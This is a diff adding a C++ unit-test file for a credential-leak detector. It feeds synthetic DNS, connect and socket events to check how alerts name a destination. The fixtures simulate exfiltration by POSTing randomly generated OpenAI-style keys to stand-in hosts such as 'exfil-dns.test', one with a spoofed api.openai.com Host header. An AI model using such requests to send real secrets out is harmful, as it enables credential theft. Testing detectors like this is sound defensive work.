@@ -1,0 +1,237 @@
+// Destination identity from DNS answers: records laid out as the kernel writes them (an ingress
+// socket-data record for the answer, a connect, a plain socket write), no kernel needed.
+#include <arpa/inet.h>
+#include <gtest/gtest.h>
+#include <sys/socket.h>
+
+#include <cstring>
+#include <random>
+
+#include "credsentry_abi.h"
+#include "pipeline/pipeline.h"
+#include "report/alert_json.h"
+
+namespace credsentry::pipeline {
+namespace {
+
+constexpr uint64_t kSecond = 1000000000ull;
+
+class CaptureSink : public report::AlertSink {
+ public:
+  std::string Name() const override { return "capture"; }
+  Status Write(const report::Alert& a) override {
+    alerts.push_back(a);
+    lines.push_back(report::AlertToJsonLine(a));
+    return Status::Ok();
+  }
+  std::map<std::string, uint64_t> Counters() const override { return {}; }
+  std::vector<report::Alert> alerts;
+  std::vector<std::string> lines;
+};
+
+std::string RandomToken(size_t n) {
+  static std::mt19937_64 rng(std::random_device{}());
+  static const char* alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
+  std::string s;
+  for (size_t i = 0; i < n; ++i) s.push_back(alphabet[rng() % 62]);
+  return s;
+}
+
+std::string OpenAiKey() { return "sk-proj-" + RandomToken(74) + "T3BlbkFJ" + RandomToken(74); }
+
+std::string U16(size_t v) { return {static_cast<char>(v >> 8), static_cast<char>(v)}; }
+std::string U32(uint32_t v) { return U16(v >> 16) + U16(v & 0xffff); }
+
+std::string EncodeName(const std::string& name) {
+  std::string out;
+  size_t start = 0;
+  while (start < name.size()) {
+    size_t dot = name.find('.', start);
+    if (dot == std::string::npos) dot = name.size();
+    out += static_cast<char>(dot - start) + name.substr(start, dot - start);
+    start = dot + 1;
+  }
+  return out + std::string(1, '\0');
+}
+
+// A response to "A <name>" with one address record, owner compressed to the question.
+std::string Answer(const std::string& name, const char* ipv4, uint32_t ttl) {
+  in_addr a{};
+  inet_pton(AF_INET, ipv4, &a);
+  return U16(0x4242) + U16(0x8180) + U16(1) + U16(1) + U16(0) + U16(0) + EncodeName(name) + U16(1) +
+         U16(1) + "\xc0\x0c" + U16(1) + U16(1) + U32(ttl) + U16(4) +
+         std::string(reinterpret_cast<const char*>(&a), 4);
+}
+
+cs_event_header Header(uint16_t type, uint32_t pid, uint64_t ts, const char* comm) {
+  cs_event_header h{};
+  h.type = type;
+  h.abi = CS_ABI_VERSION;
+  h.pid = pid;
+  h.tid = pid;
+  h.ts_ns = ts;
+  std::strncpy(h.comm, comm, sizeof h.comm - 1);
+  return h;
+}
+
+template <class T>
+std::vector<uint8_t> Record(const T& v, std::string_view tail = {}) {
+  std::vector<uint8_t> out(sizeof(T) + tail.size());
+  std::memcpy(out.data(), &v, sizeof(T));
+  std::memcpy(out.data() + sizeof(T), tail.data(), tail.size());
+  return out;
+}
+
+class DnsDestinationTest : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    auto rules = config::LoadRules({CREDSENTRY_SOURCE_RULES_DIR});
+    ASSERT_TRUE(rules.ok()) << rules.message();
+    auto db = stream::MatcherDatabase::Compile(std::move(*rules));
+    ASSERT_TRUE(db.ok()) << db.message();
+    auto scope = state::Scope::Create({}, "/nonexistent-proc");
+    ASSERT_TRUE(scope.ok());
+    scope_ = std::make_unique<state::Scope>(*scope);
+    PipelineOptions o;
+    o.hostname = "test-host";
+    pipeline_ = std::make_unique<Pipeline>(o, *scope_, *db, fp_,
+                                           std::vector<report::AlertSink*>{&sink_}, nullptr);
+  }
+
+  // What the kernel copies from a recvfrom on a port-53 socket.
+  void Received(uint32_t pid, int fd, std::string_view bytes, uint64_t total = 0) {
+    cs_data_event e{};
+    e.hdr = Header(CS_EV_SOCK_DATA, pid, ts_ += kSecond, "curl");
+    e.fd = fd;
+    e.direction = CS_DIR_INGRESS;
+    e.fd_kind = CS_FD_SOCK_UDP;
+    e.sock_state = CS_SOCK_UNKNOWN;
+    e.len = bytes.size();
+    e.total_len = total ? total : bytes.size();
+    e.chunk_flags = CS_CHUNK_LAST | (total > bytes.size() ? CS_CHUNK_TRUNCATED : 0);
+    pipeline_->Handle(Record(e, bytes));
+  }
+
+  void Connect(uint32_t pid, int fd, const char* ip, uint16_t port) {
+    cs_connect_event e{};
+    e.hdr = Header(CS_EV_CONNECT, pid, ts_ += kSecond, "curl");
+    e.fd = fd;
+    e.family = AF_INET;
+    e.port = port;
+    e.sock_type = SOCK_STREAM;
+    inet_pton(AF_INET, ip, e.addr);
+    pipeline_->Handle(Record(e));
+  }
+
+  void Sent(uint32_t pid, int fd, std::string_view bytes) {
+    cs_data_event e{};
+    e.hdr = Header(CS_EV_SOCK_DATA, pid, ts_ += kSecond, "curl");
+    e.fd = fd;
+    e.fd_kind = CS_FD_SOCK_TCP;
+    e.sock_state = CS_SOCK_PLAIN;
+    e.len = bytes.size();
+    e.total_len = bytes.size();
+    e.chunk_flags = CS_CHUNK_LAST;
+    pipeline_->Handle(Record(e, bytes));
+  }
+
+  static std::string Post(const std::string& host, const std::string& key) {
+    return "POST /v1/x HTTP/1.1\r\nHost: " + host +
+           "\r\nContent-Length: " + std::to_string(key.size() + 4) + "\r\n\r\nkey=" + key;
+  }
+
+  uint64_t ts_ = 1000 * kSecond;
+  report::Fingerprinter fp_{"unit-test-key"};
+  std::unique_ptr<state::Scope> scope_;
+  CaptureSink sink_;
+  std::unique_ptr<Pipeline> pipeline_;
+};
+
+TEST_F(DnsDestinationTest, PlainHttpToAResolvedNameIsNamedByDns) {
+  const std::string key = OpenAiKey();
+  Received(200, 3, Answer("exfil-dns.test", "127.0.0.7", 30));
+  Connect(200, 4, "127.0.0.7", 8080);
+  Sent(200, 4, Post("exfil-dns.test:8080", key));
+  ASSERT_EQ(sink_.alerts.size(), 1u);
+  const auto& d = sink_.alerts[0].destination;
+  EXPECT_EQ(d.host, "exfil-dns.test");
+  EXPECT_EQ(d.name_source, "dns");
+  EXPECT_EQ(d.ip, "127.0.0.7");
+  EXPECT_EQ(d.port, 8080);
+  EXPECT_NE(sink_.lines[0].find("\"name_source\":\"dns\""), std::string::npos);
+  EXPECT_EQ(sink_.lines[0].find(key), std::string::npos) << "raw key in alert JSON";
+  EXPECT_EQ(pipeline_->Counters()["dns_addresses_learned"], 1u);
+}
+
+TEST_F(DnsDestinationTest, ExpectedNameFromDnsIsQuietButAHostHeaderNeverIs) {
+  Received(201, 3, Answer("api.openai.com", "127.0.0.8", 30));
+  Connect(201, 4, "127.0.0.8", 80);
+  Sent(201, 4, Post("api.openai.com", OpenAiKey()));
+  EXPECT_TRUE(sink_.alerts.empty());
+  EXPECT_EQ(pipeline_->Counters()["secrets_to_expected_destinations"], 1u);
+
+  // The Host header claims the provider, DNS says the address is the attacker's.
+  Received(201, 5, Answer("exfil-dns.test", "127.0.0.9", 30));
+  Connect(201, 6, "127.0.0.9", 80);
+  Sent(201, 6, Post("api.openai.com", OpenAiKey()));
+  ASSERT_EQ(sink_.alerts.size(), 1u);
+  EXPECT_EQ(sink_.alerts[0].destination.host, "exfil-dns.test");
+  bool noted = false;
+  for (const auto& n : sink_.alerts[0].evidence.notes) {
+    noted |= n.find("claims host api.openai.com") != std::string::npos;
+  }
+  EXPECT_TRUE(noted);
+}
+
+TEST_F(DnsDestinationTest, ExpiredAnswerLeavesTheBareAddress) {
+  Received(202, 3, Answer("exfil-dns.test", "127.0.0.10", 30));
+  ts_ += 2 * 3600 * kSecond;  // past any clamped TTL
+  Connect(202, 4, "127.0.0.10", 8080);
+  Sent(202, 4, Post("exfil-dns.test", OpenAiKey()));
+  ASSERT_EQ(sink_.alerts.size(), 1u);
+  EXPECT_EQ(sink_.alerts[0].destination.host, "");
+  EXPECT_EQ(sink_.alerts[0].destination.name_source, "ip");
+  EXPECT_EQ(pipeline_->Counters()["dns_cache_expired"], 1u);
+}
+
+TEST_F(DnsDestinationTest, SniStillComesFirst) {
+  Received(203, 3, Answer("api.openai.com", "127.0.0.11", 30));
+  Connect(203, 4, "127.0.0.11", 443);
+  cs_tls_sni_event sni{};
+  sni.hdr = Header(CS_EV_TLS_SNI, 203, ts_ += kSecond, "curl");
+  sni.ssl = 0x55;
+  std::strcpy(sni.name, "exfil.test");
+  sni.name_len = std::strlen(sni.name);
+  pipeline_->Handle(Record(sni));
+  cs_data_event e{};
+  e.hdr = Header(CS_EV_TLS_DATA, 203, ts_ += kSecond, "curl");
+  e.fd = 4;
+  e.ssl = 0x55;
+  const std::string req = Post("api.openai.com", OpenAiKey());
+  e.len = req.size();
+  e.total_len = req.size();
+  e.chunk_flags = CS_CHUNK_LAST;
+  pipeline_->Handle(Record(e, req));
+  ASSERT_EQ(sink_.alerts.size(), 1u);
+  EXPECT_EQ(sink_.alerts[0].destination.host, "exfil.test");
+  EXPECT_EQ(sink_.alerts[0].destination.name_source, "sni");
+}
+
+TEST_F(DnsDestinationTest, BrokenAnswersAreCountedAndTeachNothing) {
+  std::string good = Answer("exfil-dns.test", "127.0.0.12", 30);
+  Received(204, 3, good.substr(0, good.size() - 3), good.size());  // truncated capture
+  Received(204, 3, std::string(40, '\xc0'));                       // pointer soup
+  Received(204, 3, "");
+  auto c = pipeline_->Counters();
+  EXPECT_EQ(c["dns_answers"], 3u);
+  EXPECT_EQ(c["dns_answers_unparsed"], 3u);
+  EXPECT_EQ(c["dns_answers_truncated"], 1u);
+  EXPECT_EQ(c["dns_cache_entries"], 0u);
+  Connect(204, 4, "127.0.0.12", 8080);
+  Sent(204, 4, Post("x", OpenAiKey()));
+  ASSERT_EQ(sink_.alerts.size(), 1u);
+  EXPECT_EQ(sink_.alerts[0].destination.name_source, "ip");
+}
+
+}  // namespace
+}  // namespace credsentry::pipeline
